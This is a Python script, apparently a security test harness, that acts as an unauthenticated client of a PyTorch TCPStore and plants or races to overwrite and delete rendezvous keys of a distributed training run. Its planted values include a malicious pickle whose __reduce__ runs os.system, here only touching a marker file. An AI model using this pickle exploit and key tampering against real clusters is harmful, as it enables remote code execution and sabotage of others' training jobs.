"""Whoever reaches the port of a run's store and knows no secret: reads, overwrites, deletes, plants pickles.

Args: a folder that it shares with the run, an address, how ("plant" or "race"), and perhaps the user to be.
"""

import contextlib
import os
import pickle
import random
import sys
import time
from datetime import timedelta
from pathlib import Path

from torch.distributed import TCPStore

LONGEST_S = 90.0
LAST_MEETING = "torchelastic/agent/terminal_state"
"""Where launchers meet after training. Whoever alters it makes them wait, five minutes at most."""


class Attack:
    """Has whoever unpickles it leave a file."""

    def __init__(self, folder):
        self.path = str(folder / "executed")

    def __reduce__(self):
        return os.system, (f"touch {self.path}",)


def wait_for(path):
    deadline_s = time.monotonic() + LONGEST_S
    while not path.exists():
        if time.monotonic() > deadline_s:
            sys.exit(f"no {path}")
        time.sleep(0.005)
    return path.read_text()


def likely_keys():
    """Names at which ranks are going to write, and look."""
    begin = "generation/0/0"
    for rank in range(2):
        yield from (f"{begin}/session/{name}" for name in ("way", f"hello/{rank}", "welcome"))
        yield from (f"{begin}/default_pg/0//cpu//0/{rank}", f"shardwright/generation/hello/{rank}")
        yield from (f"{begin}/default_pg/shardwright/connect/{call}/{rank}" for call in range(4))
        yield from (f"{begin}/default_pg/shardwright/failed/{rank}", f"shardwright/failed/{rank}")
        yield f"{begin}/default_pg/shardwright/whereabouts/0/{rank}"


def main():
    folder, address, how, *user = Path(sys.argv[1]), *sys.argv[2:]
    if user:
        os.setgid(int(user[0]))
        os.setuid(int(user[0]))
    port = int(wait_for(folder / "port"))
    store = TCPStore(address, port, is_master=False, timeout=timedelta(seconds=5))
    values = [pickle.dumps(Attack(folder)), b"garbage", b"", b"\xff" * 70, b"99999999999999999999"]
    chance, changed, refused = random.Random(0), 0, 0
    if how == "plant":
        for key in likely_keys():
            store.set(key, chance.choice(values))
            changed += 1
    (folder / "ready").touch()
    deadline_s = time.monotonic() + LONGEST_S
    while how == "race" and not (folder / "done").exists() and time.monotonic() < deadline_s:
        try:
            for key in store.list_keys():
                if LAST_MEETING in key or chance.random() < 0.7:
                    continue
                with contextlib.suppress(RuntimeError):
                    if chance.random() < 0.2:
                        store.delete_key(key)
                    else:
                        store.set(key, chance.choice(values))
                    changed += 1
        except RuntimeError:
            refused += 1
            if refused > 3:
                break  # the store has gone
        time.sleep(0.002)
    (folder / "changed").write_text(str(changed))


if __name__ == "__main__":
    main()
